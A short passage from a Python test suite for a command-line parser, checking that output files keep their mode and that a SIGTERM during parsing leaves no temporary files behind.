        out = tmp / "out"
        out.mkdir()
        def check(run: Run) -> None:
            left = [p.name for p in out.iterdir() if p.name.endswith(".tmp")]
            assert not left, f"temporary files left behind: {left}"
        return Case(["parse", str(big), "--format", "json", "--output", str(out / "big.json")], reads=[big],
                    codes=(0, -15, 143), signal_after=2.5, check=check)

    yield "replaced-output-keeps-its-mode", keeps_mode
    yield "sigterm-leaves-no-temporary-file", sigterm
